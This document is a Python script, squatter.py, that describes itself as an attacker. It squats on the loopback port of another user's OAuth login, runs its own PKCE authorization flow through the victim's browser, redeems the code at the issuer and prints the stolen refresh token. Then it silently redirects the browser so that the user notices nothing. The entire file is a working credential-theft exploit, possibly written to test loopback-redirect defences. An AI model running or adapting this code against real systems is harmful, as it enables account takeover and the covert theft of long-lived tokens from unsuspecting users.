"""Attacker that listens on the port of another user's login and runs its own login with the browser that connects.

    squatter.py ISSUER CLIENT-ID PORT ADDRESS…

ADDRESS is ::1, ::, 0.0.0.0 or 127.0.0.1; `::+` also accepts IPv4. Prints `BOUND` or `REFUSED` for each, then `READY`. Redirects a
browser to the issuer with its own PKCE challenge, prints the refresh token it gets for the code as `STOLE`, and then redirects the
browser to 127.0.0.1, so that the user notices nothing.
"""

import base64
import hashlib
import http.server
import json
import secrets
import socket
import sys
import threading
import urllib.error
import urllib.parse
import urllib.request

issuer, client_id, port, addresses = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4:]
verifier = secrets.token_urlsafe(48)
challenge = base64.urlsafe_b64encode(hashlib.sha256(verifier.encode()).digest()).rstrip(b"=").decode()
own_state = secrets.token_hex(8)
lock = threading.Lock()


def log(*values):
    with lock:
        print(*values, flush=True)


class Handler(http.server.BaseHTTPRequestHandler):
    def log_message(self, *_):
        pass

    def do_GET(self):
        query = dict(urllib.parse.parse_qsl(urllib.parse.urlsplit(self.path).query))
        log("VISITED", self.headers.get("Host"), self.path.split("?")[0], *sorted(query))
        redirect = f"http://localhost:{port}"
        if "code" in query and query.get("state") != own_state:
            # The code of the real login. It is useless without the verifier, so it is passed on.
            log("CODE", query["code"])
            target = f"http://127.0.0.1:{port}{self.path}"
        elif "code" not in query:
            target = f"{issuer}/authorize?" + urllib.parse.urlencode({
                "response_type": "code", "client_id": client_id, "redirect_uri": redirect, "state": own_state,
                "scope": "openid offline_access", "code_challenge": challenge, "code_challenge_method": "S256",
            })
        else:
            form = {"grant_type": "authorization_code", "client_id": client_id, "code": query["code"],
                    "redirect_uri": redirect, "code_verifier": verifier}
            try:
                with urllib.request.urlopen(f"{issuer}/token", urllib.parse.urlencode(form).encode()) as response:
                    tokens = json.load(response)
                    log("STOLE", tokens["refresh_token"])
            except urllib.error.HTTPError as error:
                log("FAILED", error.code)
            target = f"http://127.0.0.1:{port}/"
        self.send_response(302)
        self.send_header("Location", target)
        self.send_header("Content-Length", "0")
        self.end_headers()


def listen(address):
    dual = address.endswith("+")
    address = address.rstrip("+")
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    listener = socket.socket(family)
    listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
    if family == socket.AF_INET6:
        listener.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0 if dual else 1)
    listener.bind((address, port))
    listener.listen(16)
    server = http.server.ThreadingHTTPServer((address, port), Handler, bind_and_activate=False)
    server.socket.close()
    server.socket = listener
    threading.Thread(target=server.serve_forever, daemon=True).start()


for address in addresses:
    try:
        listen(address)
        log("BOUND", address, port)
    except OSError as error:
        log("REFUSED", address, port, error.strerror)
log("READY")
threading.Event().wait()
